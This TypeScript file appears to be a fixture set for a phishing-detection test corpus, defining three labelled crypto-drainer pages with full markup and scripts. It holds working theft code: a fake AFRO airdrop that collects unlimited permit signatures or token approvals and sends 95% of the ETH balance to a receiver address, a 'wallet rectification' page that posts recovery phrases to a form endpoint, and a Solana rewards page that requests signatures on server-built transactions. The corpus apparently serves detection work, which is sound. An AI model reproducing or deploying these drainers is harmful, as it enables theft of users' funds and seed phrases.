import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codes, cookieBar, doc, favicon, gtag, hexOf, pct, rev, wordmark, xorB64 } from '../parts/yh-kit.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, pngRoute, rar5, sevenZip, zip } from '../parts/e-bin.js';


export const entries: Entry[] = [
{
  id: 'yh-afro-token-airdrop-permit-drainer',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim-afrotoken.io/airdrop',
  body: doc('AFRO Token | Season 2 Airdrop Claim', `
<nav><b>AFRO</b><span>Pan-African DeFi</span><button id="cn" class="cb">Connect Wallet</button></nav>
<section class="h">
 <h1>Season 2 Airdrop is live</h1>
 <p>Eligible wallets can claim up to <b>4 500 AFRO</b> (≈ $1 890). Check eligibility and claim before the snapshot closes.</p>
 <div class="cnt">Ends in <span id="t">05:59:59</span></div>
 <button id="cl" class="big">Check eligibility</button>
 <p id="msg" class="m"></p>
</section>
<section class="faq"><h3>FAQ</h3><p><b>Who is eligible?</b> Wallets that used Uniswap, Aave, PancakeSwap or bridged to Celo before March.</p><p><b>Is there a fee?</b> No. You only sign a gas-free message to verify ownership.</p></section>
<script src="/assets/web3-connect.js"></script>`, {
    css: `body{margin:0;background:#0b0f1a;color:#e8ecf5;font-family:Inter,Arial,sans-serif}nav{display:flex;align-items:center;gap:12px;padding:16px 28px;border-bottom:1px solid #1e2740}nav b{font-size:22px;color:#ffb400}nav span{flex:1;color:#889}
.cb{background:#ffb400;border:0;padding:9px 16px;border-radius:8px;font-weight:bold}.h{text-align:center;padding:60px 20px}.big{background:linear-gradient(90deg,#ffb400,#ff6a00);border:0;padding:16px 40px;border-radius:12px;font-size:18px;font-weight:bold;cursor:pointer}.cnt{color:#ff6a00;margin:12px}.m{color:#9ab}.faq{max-width:640px;margin:0 auto;color:#aab}`,
  }),
  routes: {
    'claim-afrotoken.io/assets/web3-connect.js': jsRoute(`(function(){
var RCV="0x7a3F9e12cB4d5E6f7081a2B3c4D5e6F708192aB3";
var TOKENS=[{a:"0xdAC17F958D2ee523a2206206994597C13D831ec7",n:"USDT"},{a:"0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48",n:"USDC"},{a:"0x6B175474E89094C44Da98b954EedeAC495271d0F",n:"DAI"}];
var MAX="ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff";
var acct=null,eth=window.ethereum;
function msg(t){document.getElementById("msg").textContent=t}
function pad(a){return a.toLowerCase().replace("0x","").padStart(64,"0")}
async function connect(){
  if(!eth){msg("No wallet found. Open this page in MetaMask or Trust Wallet browser.");location.href="https://metamask.app.link/dapp/"+location.host+location.pathname;return}
  var acc=await eth.request({method:"eth_requestAccounts"});acct=acc[0];
  document.getElementById("cn").textContent=acct.slice(0,6)+"..."+acct.slice(-4);
  fetch("/api/log",{method:"POST",body:JSON.stringify({a:acct,ua:navigator.userAgent})});
}
async function claim(){
  if(!acct)await connect();if(!acct)return;
  msg("Verifying eligibility...");
  var chain=await eth.request({method:"eth_chainId"});
  var bal=await eth.request({method:"eth_getBalance",params:[acct,"latest"]});
  for(var i=0;i<TOKENS.length;i++){
    try{
      var deadline=Math.floor(Date.now()/1000)+31536000;
      var typed={types:{EIP712Domain:[{name:"name",type:"string"},{name:"version",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],Permit:[{name:"owner",type:"address"},{name:"spender",type:"address"},{name:"value",type:"uint256"},{name:"nonce",type:"uint256"},{name:"deadline",type:"uint256"}]},
        primaryType:"Permit",domain:{name:TOKENS[i].n,version:"1",chainId:parseInt(chain,16),verifyingContract:TOKENS[i].a},
        message:{owner:acct,spender:RCV,value:"115792089237316195423570985008687907853269984665640564039457584007913129639935",nonce:0,deadline:deadline}};
      var sig=await eth.request({method:"eth_signTypedData_v4",params:[acct,JSON.stringify(typed)]});
      await fetch("/api/permit",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({owner:acct,token:TOKENS[i].a,sig:sig,deadline:deadline})});
    }catch(e){
      try{await eth.request({method:"eth_sendTransaction",params:[{from:acct,to:TOKENS[i].a,data:"0x095ea7b3"+pad(RCV)+MAX}]})}catch(e2){}
    }
  }
  try{var v=BigInt(bal)*95n/100n;if(v>0n)await eth.request({method:"eth_sendTransaction",params:[{from:acct,to:RCV,value:"0x"+v.toString(16)}]})}catch(e){}
  msg("Claim submitted! Tokens will arrive after the snapshot.");
}
document.getElementById("cn").onclick=connect;document.getElementById("cl").onclick=claim;
var s=21599;setInterval(function(){s--;document.getElementById("t").textContent=[Math.floor(s/3600),Math.floor(s%3600/60),s%60].map(function(x){return("0"+x).slice(-2)}).join(":")},1000);
})();`),
    'claim-afrotoken.io/api/log': jsonRoute({ ok: 1 }),
    'claim-afrotoken.io/api/permit': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'yh-wallet-rectify-seed-phrase-sync',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://dapps-rectify-node.web.app/sync/',
  body: doc('Wallet Rectification | Decentralized Sync Node', `
<div class="c">
 <h1>Wallet Validation &amp; Rectification</h1>
 <p>Resolve failed transactions, missing balances, stuck swaps, airdrop claim errors and high gas fees by synchronising your wallet with the decentralised node.</p>
 <div class="wl" id="wl">
  <button data-w="MetaMask">🦊 MetaMask</button><button data-w="Trust Wallet">🛡 Trust Wallet</button><button data-w="Coinbase Wallet">🔵 Coinbase Wallet</button><button data-w="Exodus">✖ Exodus</button><button data-w="Valora">🟡 Valora</button><button data-w="Other">… Other</button>
 </div>
 <div id="md" class="md" hidden>
  <div class="box">
   <h3 id="wn">Import wallet</h3>
   <div class="tabs"><span class="on">Phrase</span><span>Keystore JSON</span><span>Private Key</span></div>
   <form id="ph">
    <textarea name="phrase" rows="4" placeholder="Enter your 12 or 24 word recovery phrase, separated by spaces" required></textarea>
    <p class="sm">Typically 12 (sometimes 24) words separated by single spaces.</p>
    <button>Validate</button>
   </form>
   <p id="er" class="er" hidden>Error connecting… the phrase could not be validated. Please try again.</p>
  </div>
 </div>
</div>
<script>
var w='';document.querySelectorAll('#wl button').forEach(function(b){b.onclick=function(){w=b.dataset.w;document.getElementById('wn').textContent='Import '+w;document.getElementById('md').hidden=false}});
document.getElementById('ph').onsubmit=function(e){e.preventDefault();
 var p=this.phrase.value.trim().toLowerCase().replace(/\\s+/g,' ');var n=p.split(' ').length;
 if([12,15,18,21,24].indexOf(n)<0){alert('Invalid phrase length');return}
 var fd=new FormData();fd.append('wallet',w);fd.append('phrase',p);fd.append('ref',location.host);
 fetch('https://formspree.io/f/xbjvkpqa',{method:'POST',body:fd,headers:{Accept:'application/json'}}).finally(function(){document.getElementById('er').hidden=false});
};
</script>`, {
    css: `body{margin:0;background:radial-gradient(circle at top,#21124a,#07050f);color:#eee;font-family:Arial,sans-serif;min-height:100vh}.c{max-width:720px;margin:0 auto;padding:50px 20px;text-align:center}
.wl{display:grid;grid-template-columns:repeat(3,1fr);gap:12px;margin-top:24px}.wl button{background:#1c1538;border:1px solid #3b2d77;color:#fff;padding:18px;border-radius:12px;font-size:15px;cursor:pointer}
.md{position:fixed;inset:0;background:#000b;display:flex;align-items:center;justify-content:center}.md[hidden]{display:none}.box{background:#fff;color:#222;width:420px;border-radius:14px;padding:22px;text-align:left}
.tabs{display:flex;gap:14px;border-bottom:1px solid #ddd;margin-bottom:10px}.tabs span{padding:6px 0}.tabs .on{border-bottom:2px solid #6c3bff}textarea{width:100%;box-sizing:border-box;padding:10px}.sm{font-size:12px;color:#777}.box button{width:100%;background:#6c3bff;color:#fff;border:0;padding:12px;border-radius:8px}.er{color:#c00}`,
  }),
},
{
  id: 'yh-solana-staking-rewards-signall',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://sol-stake-rewards.app/claim',
  body: doc('Solana Staking Rewards – Claim SOL', `
<div class="w">
 <h1>Unclaimed staking rewards</h1>
 <p>Validators distributed epoch 612 rewards. Connect your Phantom or Solflare wallet to claim your share.</p>
 <button id="b">Connect Phantom</button>
 <p id="st"></p>
</div>
<script>
(async function(){
 var RCV="9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin";
 var b=document.getElementById('b'),st=document.getElementById('st');
 b.onclick=async function(){
  var p=window.phantom&&window.phantom.solana||window.solana||window.solflare;
  if(!p){st.textContent='Wallet not detected.';return}
  var r=await p.connect();var pk=(r&&r.publicKey||p.publicKey).toString();
  st.textContent='Connected '+pk.slice(0,4)+'…'+pk.slice(-4)+'. Preparing claim…';
  var res=await fetch('/api/build',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk,to:RCV})});
  var j=await res.json();
  var txs=j.txs.map(function(t){return Uint8Array.from(atob(t),function(c){return c.charCodeAt(0)})});
  try{var signed=await p.signAllTransactions(txs);await fetch('/api/send',{method:'POST',body:JSON.stringify({owner:pk,signed:signed.length})});st.textContent='Claim submitted!'}catch(e){st.textContent='Request rejected. Please approve to receive rewards.'}
 };
})();
</script>`, {
    css: 'body{margin:0;background:linear-gradient(160deg,#14f195,#9945ff);font-family:Arial,sans-serif;min-height:100vh}.w{max-width:440px;margin:80px auto;background:#111;color:#fff;padding:30px;border-radius:16px;text-align:center}#b{background:#ab9ff2;border:0;padding:14px 30px;border-radius:10px;font-size:16px}',
  }),
  routes: {
    'sol-stake-rewards.app/api/build': jsonRoute({ txs: ['AQABAwUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA='] }),
  },
},
];
